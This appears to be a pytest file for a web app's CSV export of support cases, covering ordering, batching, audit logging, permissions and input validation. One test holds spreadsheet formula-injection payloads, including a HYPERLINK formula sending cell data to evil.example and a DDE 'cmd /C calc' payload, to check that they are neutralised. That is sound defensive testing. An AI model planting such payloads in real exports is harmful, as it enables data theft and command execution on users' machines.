"""Case lists as CSV (docs/api.md#case-lists-as-csv), on SQLite and PostgreSQL: the API's
`format=csv` holds exactly the list's cases, every one of them, in batches; formula
payloads are neutralised; bad input is refused and exports nothing; every export is in
the audit log; the desk's and the console's "Export CSV" links carry their filters."""

from __future__ import annotations

import csv
import io
import json
import re
import tracemalloc
from datetime import UTC, datetime, timedelta
from urllib.parse import parse_qs, urlsplit

import pytest
from sqlalchemy import insert, select

from db import cases as case_store
from db.accounts import create_token, create_user
from db.models import AuditEntry, Case
from tests.conftest import make_settings
from tests.test_read_model import snapshot
from web import create_app
from web.export import HEADER
from workflows.case.contracts import Customer, Projection

NOW = datetime.now(UTC).replace(microsecond=0)


def put(app, case_id: str, **changes) -> None:
    values = dict(created_at=NOW - timedelta(hours=2), updated_at=NOW,
                  stage_due_at=NOW + timedelta(hours=6), status_token=f"tok-{case_id}",
                  customer_url=f"http://testserver/s/tok-{case_id}")
    values.update(changes)
    case_store.write_projection(app.extensions["aftersales"].sessions,
                                Projection(snapshot(case_id, 1, **values)))


@pytest.fixture
def app(database_url):
    app = create_app(make_settings("127.0.0.1:9", database_url, "http://127.0.0.1:9"))
    # Small batches, so a few dozen cases take several of them.
    app.config["EXPORT_BATCH"] = 4
    with app.extensions["aftersales"].sessions.begin() as session:
        for name, role, teams in (("hank", "handler", []), ("bob", "handler", []),
                                  ("tess", "handler", ["returns"]),
                                  ("sam", "supervisor", []), ("ada", "admin", [])):
            create_user(session, name, role, f"{name}-password", teams=teams)
    yield app
    app.extensions["aftersales"].engine.dispose()


def seed(app) -> None:
    """22 cases across kinds, stages, assignees, teams and stores, due an hour apart."""
    kinds = ("return", "complaint", "refund")
    for n in range(22):
        put(app, f"AS-E{n:02d}", kind=kinds[n % 3], stage=("confirm", "analyze")[n % 2],
            priority=("P1", "P2", "P3")[n % 3], assignee=(None, "hank", "bob")[n % 3],
            team=("returns", "complaints", None)[n % 3] if n % 4 else "returns",
            store=("online", "hz-westlake")[n % 2], overdue=n % 5 == 0,
            tags=["vip"] if n % 6 == 0 else [],
            created_at=NOW - timedelta(hours=30 - n),
            stage_due_at=NOW + timedelta(hours=n))


def token(app, name: str) -> dict:
    with app.extensions["aftersales"].sessions.begin() as session:
        return {"Authorization": f"Bearer {create_token(session, name)}"}


def read_csv(response) -> list[dict]:
    text = response.get_data(as_text=True)
    rows = list(csv.reader(io.StringIO(text)))
    assert rows[0] == HEADER
    return [dict(zip(HEADER, row, strict=True)) for row in rows[1:]]


def listed(http, headers, query: str) -> list[str]:
    """The case ids the JSON list shows for `query`, every page of it."""
    ids, cursor = [], None
    while True:
        page = http.get(f"/api/v1/cases?{query}&per_page=5"
                        + (f"&cursor={cursor}" if cursor else ""), headers=headers)
        assert page.status_code == 200, page.get_json()
        ids += [item["id"] for item in page.get_json()["items"]]
        cursor = page.get_json()["next_cursor"]
        if not cursor:
            return ids


def exports(app) -> list[AuditEntry]:
    with app.extensions["aftersales"].sessions() as session:
        return list(session.scalars(select(AuditEntry).where(
            AuditEntry.action == "cases-export").order_by(AuditEntry.id)))


QUERIES = [
    "", "kind=return", "stage=analyze&priority=P2", "assignee=hank", "overdue=true",
    "overdue=false&sort=created", "tag=vip", "team=returns", "store=hz-westlake",
    "team=complaints&store=online&sort=priority", "q=AS-E07",
    f"created_from={(NOW - timedelta(hours=20)).isoformat().replace('+00:00', 'Z')}",
]


def test_the_export_holds_exactly_the_list_s_cases_in_its_order(app):
    seed(app)
    http, headers = app.test_client(), token(app, "hank")
    for query in QUERIES:
        response = http.get(f"/api/v1/cases?{query}&format=csv", headers=headers)
        assert response.status_code == 200
        assert response.content_type == "text/csv; charset=utf-8"
        assert re.fullmatch(r'attachment; filename=aftersales-cases-\d{8}-\d{6}\.csv',
                            response.headers["Content-Disposition"])
        rows = read_csv(response)
        assert [r["case_id"] for r in rows] == listed(http, headers, query), query
        assert rows, f"{query} matches some case"
    assert len(exports(app)) == len(QUERIES)


def test_every_row_of_a_long_list_and_its_columns(app):
    seed(app)
    http, headers = app.test_client(), token(app, "sam")
    rows = read_csv(http.get("/api/v1/cases?format=csv&sort=created", headers=headers))
    # 22 cases in batches of 4: all of them, newest first, none twice.
    assert [r["case_id"] for r in rows] == [f"AS-E{n:02d}" for n in range(21, -1, -1)]
    first = rows[-1]  # AS-E00
    assert first["kind"] == "return" and first["stage"] == "confirm"
    assert first["priority"] == "P1" and first["assignee"] == ""
    assert first["team"] == "returns" and first["store"] == "online"
    assert first["overdue"] == "yes" and first["tags"] == "vip"
    assert first["customer_name"] == "王芳" and first["order_id"] == "SO-10001"
    assert first["created_at"] == (NOW - timedelta(hours=30)).isoformat().replace(
        "+00:00", "Z")
    assert first["stage_due_at"] == NOW.isoformat().replace("+00:00", "Z")
    assert first["refunded"] == "0.00" and first["rating"] == ""


def test_formula_payloads_are_text_and_the_csv_keeps_its_shape(app):
    payloads = {
        "customer": '=HYPERLINK("http://evil.example/?"&A1,"click")',
        "description": "+cmd|' /C calc'!A0",
        "tags": ["@SUM(1+1)", "-2+3"],
        "store": "=1+1",
        "team": "-evil",
    }
    put(app, "AS-EVIL1", customer=Customer(id="C-9", name=payloads["customer"]),
        description=payloads["description"], tags=payloads["tags"],
        store=payloads["store"], team=payloads["team"])
    # Control characters a spreadsheet also reads as the start of a formula, and a
    # name that tries to break out of its cell into a new one.
    put(app, "AS-EVIL2", customer=Customer(id="C-8", name="\t=2+2"),
        description="\r=3+3", store="@x")
    put(app, "AS-EVIL3", customer=Customer(id="C-7", name='x",=4+4,"\n=5+5'),
        description="plain, with a comma and a \"quote\"")
    http, headers = app.test_client(), token(app, "sam")
    rows = {r["case_id"]: r for r in read_csv(
        http.get("/api/v1/cases?format=csv", headers=headers))}
    assert len(rows) == 3
    evil = rows["AS-EVIL1"]
    assert evil["customer_name"] == "'" + payloads["customer"]
    assert evil["description"] == "'" + payloads["description"]
    assert evil["tags"] == "'@SUM(1+1) -2+3"
    assert evil["store"] == "'=1+1" and evil["team"] == "'-evil"
    assert rows["AS-EVIL2"]["customer_name"] == "'\t=2+2"
    assert rows["AS-EVIL2"]["description"] == "'\r=3+3"
    assert rows["AS-EVIL2"]["store"] == "'@x"
    # Quoted by the CSV writer: one cell, every column in its place.
    assert rows["AS-EVIL3"]["customer_name"] == 'x",=4+4,"\n=5+5'
    assert rows["AS-EVIL3"]["description"] == 'plain, with a comma and a "quote"'
    for row in rows.values():
        for name, cell in row.items():
            assert not cell.startswith(("=", "+", "-", "@", "\t", "\r")), (name, cell)
    # The case itself is unchanged: only its cells in the export are.
    case = http.get("/api/v1/cases/AS-EVIL1", headers=headers).get_json()
    assert case["customer"]["name"] == payloads["customer"]


@pytest.mark.parametrize(("query", "field"), [
    ("format=xlsx", "format"),
    ("format=CSV", "format"),
    ("format=csv&stage=nowhere", "stage"),
    ("format=csv&kind=return,refund", "kind"),
    ("format=csv&priority=P9", "priority"),
    ("format=csv&overdue=maybe", "overdue"),
    ("format=csv&team=no%20such%20team!", "team"),
    ("format=csv&store=" + "s" * 65, "store"),
    ("format=csv&q=" + "q" * 101, "q"),
    ("format=csv&created_from=yesterday", "created_from"),
    ("format=csv&created_from=2026-12-02T00:00:00Z&created_to=2026-12-01T00:00:00Z",
     "created_from"),
    ("format=csv&sort=customer_name", "sort"),
    ("format=csv&page=2", "page"),
    ("format=csv&cursor=abc", "cursor"),
    ("format=csv&per_page=10", "per_page"),
    ("format=csv&colour=red", "colour"),
])
def test_bad_input_is_refused_and_exports_nothing(app, query, field):
    put(app, "AS-BAD1")
    http, headers = app.test_client(), token(app, "sam")
    response = http.get(f"/api/v1/cases?{query}", headers=headers)
    assert response.status_code == 422
    assert response.content_type == "application/problem+json"
    assert field in response.get_json()["errors"]
    assert exports(app) == []


def test_the_export_needs_the_list_s_permission(app):
    seed(app)
    http = app.test_client()
    assert http.get("/api/v1/cases?format=csv").status_code == 401
    wrong = http.get("/api/v1/cases?format=csv",
                     headers={"Authorization": "Bearer as_not-a-token"})
    assert wrong.status_code == 401 and wrong.content_type == "application/problem+json"
    # A session cookie is no API credential: the pages have their own export links.
    assert exports(app) == []


def test_every_export_is_in_the_audit_log_with_its_filters_and_rows(app):
    seed(app)
    http, headers = app.test_client(), token(app, "hank")
    read_csv(http.get("/api/v1/cases?format=csv&kind=return&store=online", headers=headers))
    [entry] = exports(app)
    assert (entry.actor, entry.role, entry.method, entry.status) == ("hank", "handler",
                                                                     "GET", 200)
    assert entry.path == "/api/v1/cases?format=csv&kind=return&store=online"
    expected = len(listed(http, headers, "kind=return&store=online"))
    assert entry.detail == {"filters": {"kind": "return", "store": "online", "sort": "due"},
                            "rows": expected, "complete": True}
    # The admin reads it through the API, the CSV and the admin page.
    admin = token(app, "ada")
    [item] = http.get("/api/v1/audit?action=cases-export", headers=admin).get_json()["items"]
    assert item["detail"]["rows"] == expected
    audit_csv = http.get("/api/v1/audit?action=cases-export&format=csv", headers=admin)
    [logged] = list(csv.DictReader(io.StringIO(audit_csv.get_data(as_text=True))))
    assert json.loads(logged["detail"])["rows"] == expected
    page = signed_in(app, "ada").get("/admin?action=cases-export").get_data(as_text=True)
    assert f"{expected} rows" in page and "<code>store=online</code>" in page


def test_a_client_that_stops_reading_is_logged_with_the_rows_it_was_sent(app):
    seed(app)
    http, headers = app.test_client(), token(app, "sam")
    response = http.get("/api/v1/cases?format=csv", headers=headers, buffered=False)
    chunks = response.response
    next(chunks), next(chunks)  # the header and the first batch of 4
    response.close()
    [entry] = exports(app)
    assert entry.detail["rows"] == 4 and entry.detail["complete"] is False


def test_memory_stays_bounded_by_the_batch_not_the_list(app):
    """Many cases copied in with one INSERT each batch: the export's peak memory with
    4,000 cases is about that of 500, because only a batch is ever held."""
    put(app, "AS-TEMPLATE", description="x" * 400)
    sessions = app.extensions["aftersales"].sessions
    with sessions() as session:
        template = session.scalar(select(Case).where(Case.id == "AS-TEMPLATE"))
        row = {c.key: getattr(template, c.key) for c in Case.__table__.columns}

    def copies(start: int, count: int) -> None:
        with sessions.begin() as session:
            session.execute(insert(Case), [
                {**row, "id": f"AS-M{n:05d}", "status_token_hash": f"h{n:063d}"}
                for n in range(start, start + count)])

    app.config["EXPORT_BATCH"] = 100
    http, headers = app.test_client(), token(app, "sam")

    def peak() -> tuple[int, int]:
        tracemalloc.start()
        response = http.get("/api/v1/cases?format=csv", headers=headers, buffered=False)
        lines = sum(chunk.count(b"\n") for chunk in response.response)
        response.close()
        top = tracemalloc.get_traced_memory()[1]
        tracemalloc.stop()
        return lines, top

    copies(0, 500)
    small_lines, small_peak = peak()
    copies(500, 3500)
    large_lines, large_peak = peak()
    assert (small_lines, large_lines) == (502, 4002)
    # All 4,000 rows in memory at once would take several megabytes more.
    assert large_peak < small_peak * 1.5 + 512 * 1024, (small_peak, large_peak)


# The pages' links.

def signed_in(app, name: str):
    client = app.test_client()
    page = client.get("/login").get_data(as_text=True)
    csrf = re.search(r'name="csrf_token" type="hidden" value="([^"]+)"', page).group(1)
    response = client.post("/login", data={"username": name, "password": f"{name}-password",
                                           "csrf_token": csrf})
    assert response.status_code == 302
    return client


def export_links(html: str) -> dict[str, str]:
    """The page's Export CSV links by the `list` they name."""
    found = {}
    for escaped in re.findall(r'<a href="([^"]+)" download>Export CSV</a>', html):
        href = escaped.replace("&amp;", "&")
        found[parse_qs(urlsplit(href).query)["list"][0]] = href
    return found


def test_the_desk_s_links_export_each_list_with_its_filters(app):
    seed(app)
    desk = signed_in(app, "tess")
    page = desk.get("/desk?kind=return&store=online&overdue=0").get_data(as_text=True)
    links = export_links(page)
    assert set(links) == {"mine", "unassigned"}
    assert parse_qs(urlsplit(links["unassigned"]).query) == {
        "list": ["unassigned"], "kind": ["return"], "store": ["online"]}
    # Tess is in team returns: her unassigned list is that team's and no team's.
    unassigned = read_csv(desk.get(links["unassigned"]))
    assert unassigned and all(r["assignee"] == "" and r["kind"] == "return"
                              and r["store"] == "online" and r["team"] in ("returns", "")
                              for r in unassigned)
    shown = re.findall(r'href="/desk/cases/(AS-E\d+)"',
                       page[page.index('id="team-h"'):])
    assert [r["case_id"] for r in unassigned] == shown
    # Hank's own list: his open cases, as the desk shows them.
    hank = signed_in(app, "hank")
    page = hank.get("/desk?overdue=1").get_data(as_text=True)
    mine = read_csv(hank.get(export_links(page)["mine"]))
    assert mine and {r["assignee"] for r in mine} == {"hank"}
    assert {r["overdue"] for r in mine} == {"yes"}
    [entry] = [e for e in exports(app) if e.actor == "hank"]
    assert entry.detail == {"filters": {"list": "mine", "overdue": "1"},
                            "rows": len(mine), "complete": True}
    assert desk.get("/desk/export.csv?list=everyone").status_code == 404


def test_the_console_s_links_export_each_list_by_team_and_store(app):
    seed(app)
    console = signed_in(app, "sam")
    page = console.get("/supervisor?team=returns").get_data(as_text=True)
    links = export_links(page)
    assert set(links) == {"overdue", "at-risk", "approvals"}
    overdue = read_csv(console.get(links["overdue"]))
    shown = re.findall(r'href="/desk/cases/(AS-E\d+)"',
                       page[page.index('id="overdue-h"'):page.index('id="approvals-h"')])
    assert [r["case_id"] for r in overdue] == shown and shown
    assert {(r["team"], r["overdue"]) for r in overdue} == {("returns", "yes")}
    assert read_csv(console.get(links["approvals"])) == []
    # A handler has no console, so no console export either.
    refused = signed_in(app, "hank").get(links["overdue"])
    assert refused.status_code == 403 and not refused.content_type.startswith("text/csv")
    assert console.get("/supervisor/export.csv?list=nope").status_code == 404
    assert console.get("/supervisor/export.csv").status_code == 404
    signed_out = app.test_client().get(links["overdue"])
    assert signed_out.status_code == 302 and "/login" in signed_out.headers["Location"]
